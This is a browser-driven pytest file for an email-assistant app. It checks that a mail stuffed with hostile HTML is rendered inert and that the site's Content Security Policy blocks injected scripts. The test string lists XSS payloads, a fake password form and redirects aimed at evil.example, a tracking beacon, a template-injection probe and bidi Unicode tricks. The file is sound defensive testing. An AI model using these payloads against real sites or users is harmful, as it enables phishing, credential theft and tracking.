"""A mail that tries everything: nothing of it is alive, and no request leaves."""

import json

import pytest

from email_assistant.memory.profiles import Memory
from email_assistant.memory.rules import LONGEST_RULE
from tests.browser.conftest import Open, Size, Theme
from tests.integration.test_api import ADA, Home

pytestmark = pytest.mark.asyncio(loop_scope="session")

ELSEWHERE = "https://evil.example"
TRICKS = "\u202efdp.exe\u202c \u200bhid\u200bden\u2066 \u200f\u061c"
HOSTILE = "\n".join(
    [
        "</textarea></title></select></details></dialog><script>document.title = 'owned'</script>",
        f"<script src={ELSEWHERE}/a.js></script><style>*{{display:none}}</style><link rel=stylesheet href={ELSEWHERE}>",
        f"<form action={ELSEWHERE}><input name=password type=password><button>Log in</button></form>",
        f'<base href="{ELSEWHERE}"><meta http-equiv=refresh content="0;url={ELSEWHERE}">',
        f"<iframe src={ELSEWHERE}></iframe><object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
        f"<img src={ELSEWHERE}/beacon.gif onerror=\"document.title='owned'\">",
        f'"><svg onload="document.title=\'owned\'"><image href={ELSEWHERE}/b.png /></svg>',
        f'<a href="javascript:document.title=\'owned\'">click</a> <a href="{ELSEWHERE}">bank.example</a>',
        f"<body background={ELSEWHERE}/c.png><video src={ELSEWHERE}/d autoplay></video>{{{{ 7*7 }}}}",
        TRICKS,
    ]
)


@pytest.mark.parametrize(("size", "theme"), [("desktop", "light"), ("phone", "dark")])
async def test_nothing_of_a_hostile_mail_is_alive(home: Home, visit: Open, size: Size, theme: Theme) -> None:
    account = await home.account()
    mail_id, _, run = await home.mail(account, subject=HOSTILE, sender=HOSTILE, state="failed", reason=HOSTILE)
    args = {"email_address": HOSTILE, "response_text": HOSTILE, "additional_recipients": [HOSTILE], HOSTILE: HOSTILE}
    draft = await home.ask(run, args=args, body=HOSTILE, subject=HOSTILE, new=[HOSTILE])
    question = await home.ask(run, HOSTILE, {"content": HOSTILE}, kind="question", allowed=["ignore", "response"])
    await home.app.accounts.note_error(account, HOSTILE)
    content = json.dumps({"sender": {"name": HOSTILE}, "text": HOSTILE, "attachments": [{"name": HOSTILE}]})
    await home.execute("update mails set content = %s", content)
    await Memory.kept_in(home.app.pool).add(account, "response_preferences", HOSTILE[:LONGEST_RULE], "web")
    trail = f"/mails/{mail_id}/trail?account={ADA}"
    async with visit(size, theme) as v:
        for path in ("/", f"/items/{draft.id}", f"/items/{question.id}", "/mails", trail, "/accounts", "/memory"):
            await v.go(path)
            assert (await v.page.title()).endswith("– Email assistant")
            assert (
                await v.page.locator(
                    "main :is(script, style, iframe, object, embed, img, svg, meta, base, link, video)"
                ).count()
                == 0
            )
            assert await v.page.locator("main input[type=password]").count() == 0
            leading = await v.page.locator("main a").evaluate_all("links => links.map(link => link.href)")
            assert [link for link in leading if not link.startswith(v.root)] == []
            sending = await v.page.locator("form").evaluate_all("forms => forms.map(form => form.action)")
            assert [action for action in sending if not action.startswith(v.root)] == []
            # A field holds the proposal's own text, to the letter: what is not edited is sent as it is.
            shown = await v.page.locator("main").evaluate(
                "main => { const copy = main.cloneNode(true);"
                " copy.querySelectorAll('textarea').forEach(field => field.remove()); return copy.textContent; }"
            )
            assert not set(shown) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
        await v.go(f"/items/{draft.id}")
        await v.press("r")
        await v.page.get_by_label("Text", exact=True).press("End")
        await v.page.keyboard.type("!")
        await v.page.get_by_text("What I changed", exact=True).click()
        await v.page.locator('[data-diff="arg.response_text"] ins').first.wait_for()
        assert await v.page.locator(".diff :not(ins, del, span)").count() == 0
        assert "{{ 7*7 }}" in await v.page.locator('[data-diff="arg.response_text"]').inner_text()
        assert v.elsewhere == []
        assert v.complaints == []


async def test_a_script_in_a_page_would_not_run(home: Home, visit: Open) -> None:
    """The policy holds by itself, whatever a template may let through one day."""
    async with visit() as v:
        await v.page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "document.title = 'owned'";
                document.body.append(script);
                const image = document.createElement("img");
                image.src = "https://evil.example/beacon.gif";
                document.body.append(image);
            }"""
        )
        assert "owned" not in await v.page.title()
        assert v.elsewhere == []
        assert len([text for text in v.complaints if "Content Security Policy" in text]) == 2
